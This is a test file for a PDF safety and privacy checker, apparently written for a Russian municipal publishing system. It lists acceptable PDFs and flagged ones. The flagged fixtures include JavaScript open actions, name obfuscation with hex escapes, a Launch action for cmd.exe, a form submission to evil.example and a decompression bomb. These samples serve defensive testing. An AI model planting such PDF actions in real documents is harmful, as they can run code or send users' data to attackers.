import { describe, expect, test } from 'vitest';
import { exif, jpeg, pdf, SNILS, stream } from './made-files.ts';
import { inspected, eachSays, type Case } from './remarks-of.ts';

const ACTS = /^error: он не только показывает, но и действует.*→ Напечатайте его в новый PDF/;
const objectStream = (inside: string) => stream(`/Type /ObjStm /N 1 /First 4`, `9 0 ${inside}`);

const OFFICE = Buffer.from('Администрация округа', 'utf16le').swap16().toString('hex');

const GOOD: Case[] = [
  ['a plain one', pdf(), []],
  ['one that opens at a page', pdf({ catalog: '/OpenAction [3 0 R /XYZ null null 0]' }), []],
  [
    'a signed one',
    pdf({
      catalog: '/AcroForm << /SigFlags 3 /Fields [7 0 R] >>',
      objects: [
        '<< /FT /Sig /T (s) /V 8 0 R >>',
        '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents <00> >>',
      ],
    }),
    [],
  ],
  [
    'one with a link',
    pdf({ objects: ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://zarechny.example/) >> >>'] }),
    [],
  ],
  ['an office as its author', pdf({ info: `/Author <FEFF${OFFICE}>` }), []],
  ['changed and saved at its end', Buffer.concat([pdf(), Buffer.from('\n')]), []],
];

const BAD: Case[] = [
  ['a script at the opening', pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), [ACTS]],
  ['a script with its name in signs', pdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }), [ACTS]],
  ['a script among packed objects', pdf({ objects: [objectStream('<< /S /JavaScript /JS (x) >>')] }), [ACTS]],
  ['a short name among packed objects', pdf({ objects: [objectStream('<< /JS 5 0 R >>')] }), [ACTS]],
  [
    'a script in a stream that is not packed, its name in signs',
    pdf({ objects: ['<< >>\nstream\n9 0 obj << /S /J#61vaScript >> endobj\nendstream'] }),
    [ACTS],
  ],
  [
    'packed objects inside another stream',
    pdf({ objects: [Buffer.concat([Buffer.from('<< >>\nstream\n9 0 obj\n'), objectStream('<< /JS 5 0 R >>')])] }),
    [ACTS],
  ],
  [
    'objects packed in another way',
    pdf({ objects: ['<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nabc\nendstream'] }),
    [/^error: он упакован необычно/],
  ],
  ['the start of a program', pdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }), [ACTS]],
  ['a form that is sent', pdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] }), [ACTS]],
  ['a form of its own language', pdf({ catalog: '/AcroForm << /XFA 7 0 R >>' }), [ACTS]],
  [
    'a file inside',
    pdf({ catalog: '/Names << /EmbeddedFiles 7 0 R >>' }),
    [/^error: в него вложен другой файл\. → Приложите вложенный файл отдельно/],
  ],
  [
    'a password',
    pdf({ trailer: '/Encrypt 7 0 R' }),
    [/^error: он защищён паролем или от копирования\. → Снимите защиту/],
  ],
  ['half of it', pdf().subarray(0, 300), [/^error: он обрывается или повреждён/]],
  [
    'a page of HTML behind the end',
    Buffer.concat([pdf(), Buffer.from('<html><script>')]),
    [/^error: после его конца что-то дописано/],
  ],
  [
    'no pages',
    Buffer.from('%PDF-1.7\n1 0 obj\n<< >>\nendobj\nstartxref\n9\n%%EOF'),
    [/^error: он повреждён и не открывается/],
  ],
  [
    'a bomb',
    pdf({ objects: [stream('', Buffer.alloc(201 * 1024 * 1024))] }),
    [/^error: распакованный, он занял бы больше 200 МБ/],
  ],
  [
    'a number of a person on its page',
    pdf({ words: `A resolution about ${SNILS}, of the reserve of managers` }),
    [/^error: на странице 1 есть СНИЛС \*\*\*-\*\*\*-\*\*\* 95/],
  ],
  ['a number in its title', pdf({ info: `/Title (${SNILS})` }), [/^error: в свойствах есть СНИЛС/]],
  [
    'its author',
    pdf({ info: '/Author (Maria Kuznetsova)' }),
    [/^warning: в нём есть имена людей: автор M\*\*\* K\*\*\*\. → Уберите автора в исходном файле/],
  ],
  [
    'a folder of somebody’s computer',
    pdf({ info: '/Title (C:\\\\Users\\\\Kuznetsova\\\\Desktop\\\\akt.doc)' }),
    [/^warning: в нём записана папка чьего-то компьютера/],
  ],
  [
    'a photograph with its place',
    pdf({
      objects: [
        Buffer.concat([
          Buffer.from('<< /Subtype /Image >>\nstream\n'),
          jpeg(1, 1, [[0xe1, exif('', true)]]),
          Buffer.from('\nendstream'),
        ]),
      ],
    }),
    [/^error: в снимке записано место съёмки/],
  ],
];

describe('a PDF', () => {
  eachSays('pdf', GOOD, 'is let through: %s');
  eachSays('pdf', BAD, 'is not what it should be: %s');

  test('has text where its pages have words, and none where they are pictures', () => {
    const found = inspected({ 'z/files/a.pdf': pdf(), 'z/files/b.pdf': pdf({ words: '12' }) });
    expect([...found.values()].map(({ hasText }) => hasText)).toEqual([true, false]);
  });
});
